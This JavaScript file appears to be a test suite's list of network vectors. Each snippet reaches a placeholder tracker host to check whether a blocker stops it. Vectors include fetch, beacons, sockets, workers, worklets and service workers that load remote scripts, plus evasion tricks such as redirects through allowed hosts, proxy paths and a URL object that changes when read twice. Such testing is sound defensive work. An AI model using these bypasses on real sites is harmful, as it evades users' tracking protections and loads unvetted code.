import {inGroup} from '../vector.js';

const SEND = `fetch('{T}/executed', {mode: 'no-cors'})`;
const WS = `'wss' + '{T}/ws'.slice(5)`;
const REGISTER = `await navigator.serviceWorker.register('{OWN}/sw.js', {scope: '{OWN}/'});`;
const AUDIO = `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule`;

/** Requests without an element: connections, workers, worklets, redirects, and what hides behind an allowed host. */
export const NETWORK = inGroup('network', [
  {id: 'n-fetch', what: 'fetch', run: `${SEND};`},
  {
    id: 'n-fetch-request',
    what: 'fetch of a Request',
    run: `fetch(new Request('{T}/executed', {mode: 'no-cors'}));`,
  },
  {
    id: 'n-fetch-keepalive',
    what: 'fetch with keepalive',
    run: `fetch('{T}/executed', {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'});`,
  },
  {
    id: 'n-fetch-pagehide',
    what: 'fetch when the page goes',
    run: `addEventListener('pagehide', () => fetch('{T}/executed', {keepalive: true, mode: 'no-cors'}));`,
  },
  {
    id: 'n-fetchLater',
    what: 'fetchLater',
    run: `fetchLater('{T}/executed', {activateAfter: 0});`,
    needs: `window.fetchLater`,
  },
  {
    id: 'n-xhr',
    what: 'XMLHttpRequest',
    run: `const x = new XMLHttpRequest(); x.open('GET', '{T}/executed'); x.send();`,
  },
  {
    id: 'n-xhr-sync',
    what: 'synchronous XMLHttpRequest',
    run: `const x = new XMLHttpRequest(); x.open('GET', '{T}/executed', false); x.send();`,
  },
  {id: 'n-beacon', what: 'sendBeacon', run: `navigator.sendBeacon('{T}/executed', 'x');`},
  {
    id: 'n-beacon-pagehide',
    what: 'sendBeacon when the page goes',
    run: `addEventListener('pagehide', () => navigator.sendBeacon('{T}/executed', 'x'));`,
  },
  {id: 'n-websocket', what: 'WebSocket', run: `new WebSocket(${WS});`},
  {
    id: 'n-websocketstream',
    what: 'WebSocketStream',
    run: `new WebSocketStream(${WS}).opened.catch(() => {});`,
    needs: `window.WebSocketStream`,
  },
  {id: 'n-eventsource', what: 'EventSource', run: `new EventSource('{T}/events');`},
  {
    id: 'n-webtransport',
    what: 'WebTransport',
    run: `new WebTransport('https://{UDP}/').ready.catch(() => {});`,
    needs: `window.WebTransport`,
  },
  {
    id: 'n-rtc-stun',
    what: 'look-up of one’s own address by WebRTC',
    run: `const c = new RTCPeerConnection({iceServers: [{urls: 'stun:{UDP}'}]}); c.createDataChannel(''); await c.setLocalDescription();`,
    needs: `window.RTCPeerConnection`,
  },
  {
    id: 'n-ping',
    what: 'ping of a link',
    run: `const a = make('a'); a.href = '#'; a.ping = '{T}/executed'; document.body.append(a); a.click();`,
    needs: `'ping' in HTMLAnchorElement.prototype`,
  },
  {
    id: 'n-worker-blob-importScripts',
    what: 'worker from a blob, importScripts',
    run: `new Worker(blobUrl("importScripts('{T}/x.js')"));`,
  },
  {
    id: 'n-worker-blob-fetch',
    what: 'worker from a blob, fetch',
    run: `new Worker(blobUrl("${SEND}"));`,
  },
  {
    id: 'n-worker-blob-module',
    what: 'module worker from a blob',
    run: `new Worker(blobUrl('imp' + "ort '{T}/x.js'"), {type: 'module'});`,
  },
  {
    id: 'n-worker-data',
    what: 'worker from a data: URL',
    run: `new Worker('data:text/javascript,' + encodeURIComponent("${SEND}"));`,
  },
  {
    id: 'n-worker-net',
    what: 'worker of the site',
    run: `new Worker('{OWN}/w.js');`,
    files: {'w.js': `importScripts('{T}/x.js');`},
  },
  {
    id: 'n-shared-blob',
    what: 'shared worker from a blob',
    run: `new SharedWorker(blobUrl("${SEND}"));`,
    needs: `window.SharedWorker`,
  },
  {
    id: 'n-shared-net',
    what: 'shared worker of the site',
    run: `new SharedWorker('{OWN}/w.js');`,
    files: {'w.js': `importScripts('{T}/x.js');`},
    needs: `window.SharedWorker`,
  },
  {
    id: 'n-sw-net',
    what: 'service worker of the site, fetch',
    run: REGISTER,
    files: {'sw.js': `${SEND};`},
    needs: `navigator.serviceWorker`,
  },
  {
    id: 'n-worker-nested',
    what: 'worker in a worker',
    run: `new Worker(blobUrl("new Worker(URL.createObjectURL(new Blob(['importScripts(\\"{T}/x.js\\")'])))"));`,
  },
  {
    id: 'n-paint-worklet',
    what: 'paint worklet',
    run: `CSS.paintWorklet.addModule('{T}/x.js').catch(() => {});`,
    needs: `window.CSS?.paintWorklet`,
  },
  {
    id: 'n-audio-worklet',
    what: 'audio worklet',
    run: `${AUDIO}('{T}/x.js').catch(() => {});`,
    needs: `window.OfflineAudioContext && 'audioWorklet' in OfflineAudioContext.prototype`,
  },
  {
    id: 'n-speculation',
    what: 'speculation rules made by script',
    run: `const s = make('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch": [{"urls": ["{T}/f.html"], "eagerness": "immediate"}]}'; document.head.append(s);`,
    needs: `HTMLScriptElement.supports?.('speculationrules')`,
  },
  {
    id: 'n-attributionsrc',
    what: 'attributionSrc of an image',
    run: `make('img').attributionSrc = '{T}/executed';`,
    needs: `'attributionSrc' in HTMLImageElement.prototype`,
  },
  {
    id: 'n-payment',
    what: 'manifest of a payment method',
    run: `new PaymentRequest([{supportedMethods: '{T}/pay'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {});`,
    needs: `window.PaymentRequest`,
  },
  {
    id: 'n-mse',
    what: 'media source that is fed over the network',
    run: `const v = make('video'), m = new MediaSource(); v.src = URL.createObjectURL(m); document.body.append(v); await new Promise((done) => m.addEventListener('sourceopen', done)); const x = new XMLHttpRequest(); x.responseType = 'arraybuffer'; x.open('GET', '{T}/executed'); x.send();`,
    needs: `window.MediaSource`,
  },
  {
    id: 'n-xsl',
    what: 'XML file of the site whose style sheet makes a script',
    run: `const f = make('iframe'); f.src = '{OWN}/own.xml'; document.body.append(f);`,
    files: {
      'own.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{OWN}/own.xsl"?><a/>`,
      'own.xsl': `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script src="{T}/x.js"></script></body></html></xsl:template></xsl:stylesheet>`,
    },
    needs: `window.XSLTProcessor`,
  },
  {
    id: 'n-redirect-script',
    what: 'script of an allowed host, which redirects',
    run: `const s = make('script'); s.src = 'https://allowed.example/to?{T}/x.js'; document.head.append(s);`,
  },
  {
    id: 'n-redirect-img',
    what: 'image of an allowed host, which redirects',
    run: `make('img').src = 'https://allowed.example/to?{T}/i.svg';`,
  },
  {
    id: 'n-redirect-fetch',
    what: 'fetch of an allowed host, which redirects',
    run: `fetch('https://allowed.example/to?{T}/executed', {mode: 'no-cors'});`,
  },
  {
    id: 'n-essential',
    what: 'essential script that loads the tracker',
    run: `const s = make('script'); s.src = 'https://allowed.example/run.js?' + encodeURIComponent("const t = document.createElement('script'); t.src = '{T}/x.js'; document.head.append(t);"); document.head.append(s);`,
  },
  {
    id: 'n-proxy',
    what: 'path of the site that stands for the tracker',
    run: `const s = make('script'); s.src = '/proxy/v/{ID}/x.js'; document.head.append(s);`,
  },

  // Beyond the laboratory's list.
  {
    id: 'n-fetch-url',
    what: 'fetch of a URL object',
    run: `fetch(new URL('{T}/executed'), {mode: 'no-cors'});`,
  },
  {
    id: 'n-fetch-request-of-request',
    what: 'fetch of a Request of a Request, cloned',
    run: `fetch(new Request(new Request('{T}/executed', {mode: 'no-cors'}), {cache: 'reload'}).clone());`,
  },
  {
    id: 'n-fetch-stringifier',
    what: 'fetch of an object that says another URL when asked again',
    run: `for (const first of [true, false]) { let asked = 0; fetch({toString: () => (!asked++ === first ? '{T}/executed' : '/blank.js')}, {mode: 'no-cors'}); }`,
  },
  {
    id: 'n-fetch-redirect-own',
    what: 'fetch of the site, which redirects',
    run: `fetch('/to?{T}/executed', {mode: 'no-cors'});`,
  },
  {
    id: 'n-redirect-twice',
    what: 'script of the site, which redirects twice',
    run: `const s = make('script'); s.src = '/to?https://allowed.example/to?{T}/x.js'; document.head.append(s);`,
  },
  {
    id: 'n-xhr-subclass',
    what: 'subclass of XMLHttpRequest',
    run: `const x = new (class extends XMLHttpRequest {})(); x.open('POST', new URL('{T}/executed')); x.send('x');`,
  },
  {
    id: 'n-beacon-prototype',
    what: 'sendBeacon as the prototype has it',
    run: `Navigator.prototype.sendBeacon.call(navigator, '{T}/executed', new Blob(['x']));`,
  },
  {
    id: 'n-websocket-construct',
    what: 'WebSocket by Reflect.construct with another new.target',
    run: `Reflect.construct(WebSocket, [${WS}], class {});`,
  },
  {
    id: 'n-eventsource-constructor',
    what: 'EventSource by the constructor of its prototype',
    run: `new EventSource.prototype.constructor('{T}/events', {withCredentials: true});`,
  },
  {
    id: 'n-cache-add',
    what: 'Cache.add',
    run: `const c = await caches.open('leak-n-cache-add'); await c.add('{T}/executed').catch(() => {});`,
  },
  {
    id: 'n-worker-blob-xhr',
    what: 'worker from a blob, synchronous XMLHttpRequest',
    run: `new Worker(blobUrl("const x = new XMLHttpRequest(); x.open('GET', '{T}/executed', false); x.send();"));`,
  },
  {
    id: 'n-worker-blob-websocket',
    what: 'worker from a blob, WebSocket',
    // To a host of its own, since Firefox opens one socket to a host at a time. Kept, since a worker that nobody holds may
    // be collected before it has connected.
    run: `window.kept = new Worker(blobUrl("self.kept = new WebSocket('wss://{HOST}/ws')"));`,
  },
  {
    id: 'n-worker-blob-import',
    what: 'worker from a blob, import()',
    run: `new Worker(blobUrl('imp' + "ort('{T}/x.js')"));`,
  },
  {
    id: 'n-worker-net-module',
    what: 'module worker of the site',
    run: `new Worker('{OWN}/w.js', {type: 'module'});`,
    files: {'w.js': `import '{T}/x.js';`},
  },
  {
    id: 'n-worker-redirect',
    what: 'importScripts of the site, which redirects',
    run: `new Worker('{OWN}/w.js');`,
    files: {'w.js': `importScripts('/to?{T}/x.js');`},
  },
  {
    id: 'n-worker-of-frame',
    what: 'Worker of an empty frame',
    run: `new (blank().Worker)(blobUrl("${SEND}"));`,
  },
  {
    id: 'n-worker-message-code',
    what: 'worker that evaluates what it is sent',
    run: `new Worker(blobUrl('onmessage = (e) => (0, eval)(e.data)')).postMessage("${SEND}");`,
  },
  {
    id: 'n-sw-importScripts',
    what: 'service worker of the site, importScripts',
    run: REGISTER,
    files: {'sw.js': `importScripts('{T}/x.js');`},
    needs: `navigator.serviceWorker`,
  },
  {
    id: 'n-sw-module',
    what: 'module service worker of the site',
    run: `await navigator.serviceWorker.register('{OWN}/sw.js', {scope: '{OWN}/', type: 'module'});`,
    files: {'sw.js': `import '{T}/x.js';`},
    needs: `navigator.serviceWorker`,
  },
  {
    id: 'n-audio-worklet-import',
    what: 'audio worklet from a blob that imports',
    run: `${AUDIO}(blobUrl('imp' + "ort '{T}/x.js'")).catch(() => {});`,
    needs: `window.OfflineAudioContext && 'audioWorklet' in OfflineAudioContext.prototype`,
  },
  {
    id: 'n-rtc-turn',
    what: 'TURN over TCP by WebRTC, set after the start',
    run: `const c = new RTCPeerConnection(); c.setConfiguration({iceServers: [{urls: 'turns:{HOST}:443?transport=tcp', username: 'x', credential: 'x'}]}); c.createDataChannel(''); await c.setLocalDescription();`,
    needs: `window.RTCPeerConnection`,
  },
  {
    id: 'n-hls',
    what: 'play list of the site whose segments are the tracker’s',
    run: `const v = make('video'); v.muted = true; v.preload = 'auto'; v.src = '{OWN}/list.m3u8'; document.body.append(v); v.play().catch(() => {});`,
    files: {
      'list.m3u8': `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{T}/v.ts\n#EXT-X-ENDLIST\n`,
    },
    needs: `document.createElement('video').canPlayType('application/vnd.apple.mpegurl')`,
  },
  {
    id: 'n-fedcm',
    what: 'federated log-in',
    run: `navigator.credentials.get({identity: {providers: [{configURL: 'https://{HOST}/fedcm.json', clientId: 'x', nonce: 'x'}]}}).catch(() => {});`,
    needs: `window.IdentityCredential`,
  },
  {
    id: 'n-shared-storage',
    what: 'shared storage worklet',
    run: `(await sharedStorage.createWorklet('{T}/x.js'));`,
    needs: `window.sharedStorage?.createWorklet`,
  },
  {
    id: 'n-background-fetch',
    what: 'background fetch',
    run: `${REGISTER} const r = await navigator.serviceWorker.getRegistration('{OWN}/'); const w = r.installing ?? r.waiting ?? r.active; while (w.state !== 'activated') await new Promise((done) => w.addEventListener('statechange', done, {once: true})); await r.backgroundFetch.fetch('x', ['{T}/executed']);`,
    files: {'sw.js': ''},
    needs: `window.BackgroundFetchManager`,
    whenever: true,
  },
  {
    id: 'n-prerender',
    what: 'speculation rules that render ahead',
    run: `const s = make('script'); s.type = 'speculationrules'; s.textContent = '{"prerender": [{"urls": ["/to?{T}/f.html"], "eagerness": "immediate"}]}'; document.head.append(s);`,
    needs: `HTMLScriptElement.supports?.('speculationrules')`,
  },
]);
